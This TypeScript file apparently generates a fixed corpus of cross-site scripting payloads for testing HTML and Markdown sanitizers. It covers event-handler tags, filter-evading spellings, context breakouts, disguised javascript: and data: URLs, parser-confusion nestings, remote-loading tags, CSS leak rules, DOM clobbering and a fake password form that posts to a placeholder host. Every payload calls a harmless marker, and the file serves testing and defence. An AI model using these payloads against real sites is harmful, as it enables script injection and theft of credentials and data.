/**
 * Texts that would be a program, or ask for something of elsewhere, wherever one of them was taken for more than a text.
 * Each says which it is: what runs calls `__hit(n)`, what is loaded comes from `ELSEWHERE/n`.
 */
export const ELSEWHERE = 'https://elsewhere.example';

type Make = (call: string, url: string) => string;

/** What needs nobody to do anything before it runs: a tag, what else it says, and the event. */
const EVENTS: readonly (readonly [tag: string, more: string, event: string])[] = [
  ['img', 'src=x', 'onerror'],
  ['img', 'src=data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=', 'onload'],
  ['svg', '', 'onload'],
  ['body', '', 'onload'],
  ['body', '', 'onpageshow'],
  ['iframe', '', 'onload'],
  ['object', 'data=x', 'onerror'],
  ['embed', 'src=x', 'onload'],
  ['link', 'rel=stylesheet href=x', 'onerror'],
  ['style', '', 'onload'],
  ['script', 'src=x', 'onerror'],
  ['video', 'src=x', 'onerror'],
  ['video', 'src=x', 'onloadstart'],
  ['audio', 'src=x', 'onerror'],
  ['input', 'autofocus', 'onfocus'],
  ['input', 'type=image src=x', 'onerror'],
  ['select', 'autofocus', 'onfocus'],
  ['textarea', 'autofocus', 'onfocus'],
  ['button', 'autofocus', 'onfocus'],
  ['a', 'href=# tabindex=0 autofocus', 'onfocus'],
  ['own-tag', 'contenteditable autofocus', 'onfocus'],
  ['details', 'open', 'ontoggle'],
  ['dialog', 'open', 'ontoggle'],
  ['marquee', '', 'onstart'],
  ['meter', 'style=animation:spin', 'onanimationstart'],
  ['p', 'style=transition:all', 'ontransitionend'],
  ['p', 'style=content-visibility:auto', 'oncontentvisibilityautostatechange'],
  ['math', 'autofocus tabindex=0', 'onfocus'],
  ['frameset', '', 'onload'],
];

/** How a tag may be written so that what looks for it does not see it. */
const SPELLINGS: readonly ((tag: string, more: string, event: string, call: string) => string)[] = [
  (tag, more, event, call) => `<${tag} ${more} ${event}=${call}>`,
  (tag, more, event, call) => `<${mixed(tag)}/${more.replaceAll(' ', '/')}/${mixed(event)}="${call}"//`,
  (tag, more, event, call) => `<${tag}\t${more}\n${event}\r=\n'${entities(call)}'>x</${tag}>`,
  (tag, more, event, call) => `<${tag} x=">" ${more} a='b"c' ${event} = ${call} <b>`,
];

/** What a text may stand in, and get out of. */
const BREAKOUTS: readonly string[] = [
  '">',
  "'>",
  '`>',
  '--!>',
  '-->',
  ']]>',
  '</script>',
  '</style>',
  '</title>',
  '</textarea>',
  '</noscript>',
  '</template>',
  '</select></table>',
  '*/</style>',
  '\\">',
  '%22%3E',
];

/** Hides a scheme from what compares it. */
const DISGUISES: readonly ((scheme: string) => string)[] = [
  (scheme) => `${scheme}:`,
  (scheme) => `${mixed(scheme)}:`,
  (scheme) => `\u0001 ${scheme}:`,
  (scheme) => `${scheme.slice(0, 4)}\t${scheme.slice(4)}:`,
  (scheme) => `${scheme.slice(0, 2)}\n${scheme.slice(2)}:`,
  (scheme) => `${scheme.slice(0, 3)}&Tab;${scheme.slice(3)}&colon;`,
  (scheme) => `${entities(scheme)}&#58;`,
  (scheme) => `${percents(scheme)}%3A`,
  (scheme) => `${scheme.slice(0, 1)}\u200b${scheme.slice(1)}:`,
  (scheme) => `\u202e${scheme}:`,
  (scheme) => `${scheme}\uff1a`,
  (scheme) => `feed:${scheme}:`,
  (scheme) => `\u2028${scheme}:`,
  (scheme) => `\ufeff${scheme}:`,
];

/** Where Markdown, or the HTML in it, has an address. */
const ADDRESSED: readonly ((url: string, at: number) => string)[] = [
  (url) => `[link](${url})`,
  (url) => `[link](<${url}> "title")`,
  (url) => `![picture](${url})`,
  (url) => `<${url}>`,
  (url, at) => `[reference][r${at}]\n\n[r${at}]: ${url.replaceAll(/\s/g, '')}`,
  (url, at) => `note[^n${at}]\n\n[^n${at}]: [in it](${url})`,
  (url) => `[![nested](${url})](${url})`,
  (url) => `<a href="${url}">a</a>`,
  (url) => `<a xlink:href='${url}' href=${url}>a</a>`,
  (url) => `| [cell](${url}) |\n|---|\n| ![cell](${url}) |`,
];

/** Ends of schemes that run, or show, what stands in them. */
const SCHEMES: readonly (readonly [scheme: string, rest: Make])[] = [
  ['javascript', (call) => call],
  ['javascript', (call) => `//%0a${call}//`],
  ['vbscript', (call) => call],
  ['data', (call) => `text/html,<script>${call}</script>`],
  ['data', (call) => `image/svg+xml,<svg/onload=${call}>`],
  ['view-source', (_, url) => url],
  ['blob', (_, url) => url],
];

/** Nestings that one parser reads differently once what it wrote is read again. */
const NESTINGS: readonly ((inner: string) => string)[] = [
  (inner) => `<math><mtext><table><mglyph><style><!--</style>${inner}-->`,
  (inner) => `<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea>${inner}">`,
  (inner) => `<math><mi></p><style><![CDATA[</style>${inner}]]></mi>`,
  (inner) => `<svg></p><style><a title="</style>${inner}">`,
  (inner) => `<svg><foreignObject><math><mi><title><style>${inner}`,
  (inner) => `<svg><desc><table><td></desc>${inner}`,
  (inner) => `<svg><title><![CDATA[</title>${inner}]]>`,
  (inner) => `<math><annotation-xml encoding="text/html"><style>${inner}</style>`,
  (inner) => `<math><annotation-xml encoding="application/xhtml+xml"><p>${inner}`,
  (inner) => `<noscript><p title="</noscript>${inner}">`,
  (inner) => `<noembed><p title="</noembed>${inner}">`,
  (inner) => `<noframes><p title='</noframes>${inner}'>`,
  (inner) => `<xmp><p title="</xmp>${inner}">`,
  (inner) => `<listing>&lt;${inner.slice(1)}</listing>`,
  (inner) => `<select><option><template></select>${inner}</template>`,
  (inner) => `<select><math><style></select>${inner}`,
  (inner) => `<table><template><tr><td>${inner}</template></table>`,
  (inner) => `<table><caption><svg><style></caption>${inner}`,
  (inner) => `<template><template><style></template></template>${inner}`,
  (inner) => `<iframe srcdoc="${inner.replaceAll('"', '&quot;')}">`,
  (inner) => `<iframe><p title="</iframe>${inner}">`,
  (inner) => `<plaintext>${inner}`,
  (inner) => `<textarea autofocus><p title="</textarea>${inner}">`,
  (inner) => `<!--[if mso]>${inner}<![endif]-->`,
  (inner) => `<!--><p>-->${inner}<!---->`,
  (inner) => `<![CDATA[><p>${inner}]]>`,
  (inner) => `<?xml version="1.0"?><?x ${inner}?>`,
  (inner) => `<!doctype html [<!ENTITY x '${inner.replaceAll("'", '')}'>]>&x;`,
  (inner) => `${'<b><a href=x>'.repeat(12)}<table>${inner}${'</b>'.repeat(6)}`,
  (inner) => `<p><script>/*</p>*/</script>${inner}<script>/*`,
  (inner) => `<a title="<!--${inner}-->">a</a><!--<a title="-->${inner}">`,
  (inner) => `</p></div></article></main>${inner}<article><div>`,
];

/** What asks for something of elsewhere as soon as it is there. */
const LOADING: readonly Make[] = [
  (_, url) => `<img src=${url}>`,
  (_, url) => `<img srcset="${url} 1x, ${url}?2 2x" src=x>`,
  (_, url) => `<picture><source srcset="${url}"><img src="${url}"></picture>`,
  (_, url) => `<video autoplay poster=${url} src=${url}><track default src=${url}></video>`,
  (_, url) => `<audio autoplay><source src=${url}></audio>`,
  (_, url) => `<table background=${url}><td background=${url}>cell</table>`,
  (_, url) => `<body background=${url}>`,
  (_, url) => `<input type=image src=${url}>`,
  (_, url) => `<object data=${url}><param name=movie value=${url}></object>`,
  (_, url) => `<embed src=${url}>`,
  (_, url) => `<iframe src=${url}></iframe>`,
  (_, url) => `<frameset><frame src=${url}></frameset>`,
  (_, url) => `<script src=${url}></script>`,
  (_, url) => `<script type=module>import "${url}"</script>`,
  (_, url) => `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${url}"]}]}</script>`,
  ...['stylesheet', 'preload', 'prefetch', 'dns-prefetch', 'preconnect', 'icon', 'manifest', 'modulepreload'].map(
    (rel): Make =>
      (_, url) =>
        `<link rel=${rel} as=script href=${url}>`,
  ),
  (_, url) => `<svg><image href=${url} xlink:href=${url} /></svg>`,
  (_, url) => `<svg><use href="${url}#x"/><feImage href=${url} /></svg>`,
  (_, url) => `<svg><script href=${url} /></svg>`,
  (_, url) => `<math href=${url}>math</math>`,
  (_, url) => `<base href=${url}/><img src=relative.png>`,
  (_, url) => `<meta http-equiv=refresh content="0;url=${url}">`,
  (call) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  () => '<meta http-equiv=Content-Security-Policy content="script-src *"><meta charset=utf-7>',
  (_, url) => `<form action=${url} id=sent><input name=password autofocus></form><button form=sent>Sign in</button>`,
  (_, url) => `<a ping=${url} href=/ download>ping</a>`,
  (_, url) => `<html manifest=${url}>`,
  (_, url) => `![remote](${url} "title")`,
  (_, url) => `![remote][p]\n\n[p]: ${url}`,
  (_, url) => `<img src=${url.replace('https:', '')}><img src=${url.replaceAll('/', '\\')}>`,
];

/** Rules of style, each in an element and in an attribute. */
const STYLES: readonly Make[] = [
  (_, url) => `@import "${url}";`,
  (_, url) => `@import url(${url});`,
  (_, url) => `*{background:url(${url})}`,
  (_, url) => `*{background-image:image-set("${url}" 1x);cursor:url(${url}),auto}`,
  (_, url) => `@font-face{font-family:x;src:url(${url})}*{font-family:x}`,
  (_, url) => `input[value^="a"]{background:url(${url})}`,
  (_, url) => `*{list-style:url(${url});border-image:url(${url});content:url(${url})}`,
  (call) => `*{width:expression(${call});behavior:url(#x);-moz-binding:url(data:,${call})}`,
  (call) => `*{background:url(javascript:${call})}`,
  (_, url) => `*{--x:url(${url});b\\61ckground:var(--x)}`,
  () => '*{position:fixed;inset:0;z-index:2147483647;display:block}',
  (call) => `</style><script>${call}</script>`,
];

/** Names that would stand in the way of the page's own. */
const CLOBBERED = ['document', 'location', 'cookie', 'attributes', 'root', '__proto__', '__hit', 'fetch', 'parent'];
const CLOBBERS: readonly ((name: string) => string)[] = [
  (name) => `<img name=${name} id=${name} src=data:,>`,
  (name) => `<form id=${name}><input name=${name}><output id=${name}></form>`,
  (name) => `<a id=${name}></a><a id=${name} name=href href=cid:x>`,
  (name) => `<iframe name=${name} srcdoc="<a id=${name}>"></iframe>`,
];

/** What other languages would take for theirs. */
const TEMPLATES: readonly Make[] = [
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `{{=${call}}}{{{${call}}}}{{#each}}`,
  (call) => '${' + call + '}#{' + call + '}@{' + call + '}',
  (call) => `<%= ${call} %><? ${call} ?>{% ${call} %}[[${call}]]`,
  (call) => `';${call}//`,
  (call) => `";${call};"`,
  (call) => `\\';${call}//\\";${call}//`,
  (call) => `"}]};${call};[{"`,
  (call) => '`${' + call + '}`',
  (call) => `\u2028${call}\u2029${call}`,
  (call) => `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
  (call) => `\\x3cimg src=x onerror=${call}\\x3e`,
  (call) => `%3Cscript%3E${call}%3C%2Fscript%3E`,
  (call) => `%253Cscript%253E${call}%253C/script%253E`,
  (call) => `&lt;script&gt;${call}&lt;/script&gt;`,
  (call) => `&amp;lt;script&amp;gt;${call}`,
  (call) => `\uff1cscript\uff1e${call}\uff1c/script\uff1e`,
  (call) => `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  (call) => `<script>${call}`,
  (call) => `<script>${call}</script>`,
  (call) => `<scr<script>ipt>${call}</scr</script>ipt>`,
  (call) => `<script\u00a0>${call}</script\u00a0>`,
  (call) => `<\u200bscript>${call}</script>`,
  (call) => `<\u0000script>${call}</script>`,
  (call) => `\u202e<script>${call}</script>\u202c`,
  (call) => `<\u017fcript>${call}</\u017fcript>`,
  (call) => `\`\`\`js"><script>${call}</script>\n${call}\n\`\`\``,
  (call) => `~~~"onload=${call}\nx\n~~~`,
  (call) => `# <img src=x onerror=${call}>`,
  (call) => `- [x] <input onfocus=${call} autofocus>`,
  (call) => `<details><summary>\n\n<img src=x onerror=${call}>\n\n</summary></details>`,
  (call) => `www.elsewhere.example"onmouseover="${call}`,
  (call) => `https://elsewhere.example/"><img/src/onerror=${call}>`,
  (call) => `kim@elsewhere.example<script>${call}</script>`,
];

export interface Payload {
  at: number;
  text: string;
}

/** All of them, always the same and in the same order. */
export function payloads(): Payload[] {
  const all: Payload[] = [];
  const add = (make: (call: string, url: string, at: number) => string) => {
    const at = all.length;
    all.push({ at, text: make(`__hit(${at})`, `${ELSEWHERE}/${at}`, at) });
  };
  for (const [tag, more, event] of EVENTS)
    for (const spell of SPELLINGS) add((call) => spell(tag, more, event, call).replaceAll('  ', ' '));
  for (const breakout of BREAKOUTS)
    for (const [tag, more, event] of EVENTS.slice(0, 3)) add((call) => `${breakout}<${tag} ${more} ${event}=${call}>`);
  SCHEMES.forEach(([scheme, rest], one) =>
    DISGUISES.forEach((disguise, other) => {
      for (let form = 0; form < 3; form += 1) {
        const address = ADDRESSED[(one + other * 3 + form * 4) % ADDRESSED.length];
        if (address !== undefined) add((call, url, at) => address(disguise(scheme) + rest(call, url), at));
      }
    }),
  );
  for (const nest of NESTINGS) {
    add((call) => nest(`<img src=x onerror=${call}>`));
    add((call) => nest(`<script>${call}</script>`));
  }
  for (const load of LOADING) add(load);
  for (const style of STYLES) {
    add((call, url) => `<style>${style(call, url)}</style>`);
    add(
      (call, url) =>
        `<p style="${style(call, url)
          .replaceAll('"', "'")
          .replace(/^\*\{|\}$/g, '')}">styled</p>`,
    );
  }
  for (const name of CLOBBERED) for (const clobber of CLOBBERS) add(() => clobber(name));
  for (const template of TEMPLATES) add(template);
  return all;
}

function mixed(word: string): string {
  return Array.from(word)
    .map((letter, at) => (at % 2 === 0 ? letter.toUpperCase() : letter))
    .join('');
}

function entities(word: string): string {
  return Array.from(word)
    .map((letter, at) => {
      const code = letter.codePointAt(0) ?? 0;
      return at % 2 === 0 ? `&#x${code.toString(16)};` : `&#${code.toString().padStart(7, '0')}`;
    })
    .join('');
}

function percents(word: string): string {
  return Array.from(word)
    .map((letter) => `%${(letter.codePointAt(0) ?? 0).toString(16)}`)
    .join('');
}
